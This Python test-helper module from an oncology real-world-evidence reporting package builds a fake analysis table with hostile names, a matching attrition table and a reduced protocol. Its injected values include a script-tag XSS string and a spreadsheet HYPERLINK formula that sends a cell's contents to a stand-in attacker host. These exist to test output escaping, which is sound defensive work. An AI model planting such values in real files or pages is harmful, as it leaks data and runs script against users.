"""Helpers of the report tests: an analysis table with hostile names, its attrition, a lighter protocol."""

from __future__ import annotations

import sys
from pathlib import Path

import polars as pl

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "analysis"))

from fake_analysis_table import fake_analysis_table

from oncorwe import protocol
from oncorwe.model.schema import ATTRITION_SCHEMA

SCRIPT = "<script>alert(1)</script>"
#: a centre named like a spreadsheet formula: the CSV tables must show it as text
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


def hostile_table() -> pl.DataFrame:
    """The fake table with two centres and one index regimen named like an attack (HTML, formula)."""
    table = fake_analysis_table()
    return table.with_columns(
        pl.when(pl.col("centre_id") == "C24").then(pl.lit(SCRIPT))
        .when(pl.col("centre_id") == "C23").then(pl.lit(FORMULA))
        .otherwise(pl.col("centre_id")).alias("centre_id"),
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(SCRIPT)).otherwise(pl.col("regimen_ingredients"))
        .alias("regimen_ingredients"),
    )


def attrition_for(table: pl.DataFrame) -> pl.DataFrame:
    """An attrition table consistent with ``table`` (overall and per centre): 10% of each centre's
    records excluded for no progression on the ICI."""
    rows = []
    per_centre = table.group_by("centre_id").len().sort("centre_id").rows()
    for centre, n in [(None, table.height), *per_centre]:
        excluded = max(1, n // 10)
        rows.append({"step": 0, "criterion": "source_records", "centre_id": centre, "n_before": n + excluded,
                     "n_excluded": 0, "n_after": n + excluded})
        rows.append({"step": 1, "criterion": "no_progression_on_ici", "centre_id": centre, "n_before": n + excluded,
                     "n_excluded": excluded, "n_after": n})
    return pl.DataFrame(rows, schema=ATTRITION_SCHEMA)


#: The study's wording of a criterion (a criterion's ``label``), with characters HTML escapes.
PROGRESSION_LABEL = "Did not progress on anti-PD-1 <or> anti-CTLA-4 & co"


def protocol_with_splits(*splits: str, labels: dict[str, str] | None = None) -> protocol.Protocol:
    """The flagship protocol with fewer Kaplan-Meier splits (fewer figures: faster tests), and the
    given criterion labels."""
    data = protocol.load("goldinger2022").to_dict()
    data["analysis"]["km_splits"] = list(splits)
    for criterion in data["criteria"]:
        criterion["label"] = (labels or {}).get(criterion["id"], criterion["label"])
    return protocol.from_data(data)
